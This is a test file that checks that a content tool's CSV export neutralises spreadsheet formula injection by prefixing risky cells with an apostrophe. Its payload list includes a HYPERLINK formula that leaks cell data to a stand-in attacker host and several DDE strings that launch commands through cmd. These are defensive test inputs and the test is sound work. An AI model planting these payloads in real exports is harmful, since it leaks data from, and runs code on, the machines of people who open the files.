import { describe, expect, it } from "vitest";
import { csvCell, csvLine } from "@/shared/csv";
import { buildPostsCsv } from "@/web/features/content/lib/csv";
import { createRow, type PostRow } from "@/web/features/content/lib/post-row";
import { rowsReducer } from "@/web/features/content/lib/rows-reducer";

/**
 * Issue 10, point 7: a generated post that starts with a formula sign used to reach the Download CSV as a live
 * formula. Every CSV the product writes goes through csvCell (src/shared/csv.ts); this replays the attack on
 * the content pages' Download, the one CSV the product writes today.
 */
const generated = (id: string, content: string, imageUrls?: string[]): PostRow =>
  rowsReducer([createRow(id)], { type: "succeed", id, content, timestamp: "t", imageUrls })[0];

/** The cells of a quoted CSV line as a spreadsheet reads them (quotes removed, "" folded). */
function cellsOf(line: string): string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"/g)].map((m) => m[1].replace(/""/g, '"'));
}

const attacks = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full post")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

describe("CSV formula injection", () => {
  it("exports a post that starts with = + - @ tab or CR as text, never as a formula", () => {
    const csv = buildPostsCsv(attacks.map((post, i) => generated(String(i + 1), post)));
    const lines = csv.slice(1).split("\r\n").filter(Boolean);
    expect(lines).toHaveLength(attacks.length + 1);
    for (const [i, post] of attacks.entries()) {
      const [cell] = cellsOf(lines[i + 1]);
      expect(cell.startsWith("'"), JSON.stringify(post)).toBe(true);
      expect(cell.slice(1).trim()).toBe(post.trim());
    }
  });

  it("neutralises image URL cells too, and leaves ordinary text alone", () => {
    const row = generated("1", "A normal post - with a dash = and a sign", ["=cmd|' /C calc'!A0"]);
    const [, line] = buildPostsCsv([row]).slice(1).split("\r\n");
    expect(cellsOf(line)).toEqual(["A normal post - with a dash = and a sign", "'=cmd|' /C calc'!A0"]);
  });

  it("keeps quotes, commas and line breaks inside one cell", () => {
    expect(csvCell('=a,"b"\n=c')).toBe('"\'=a,""b""\n=c"');
    expect(csvLine(["@x", "y"])).toBe('"\'@x","y"');
  });
});
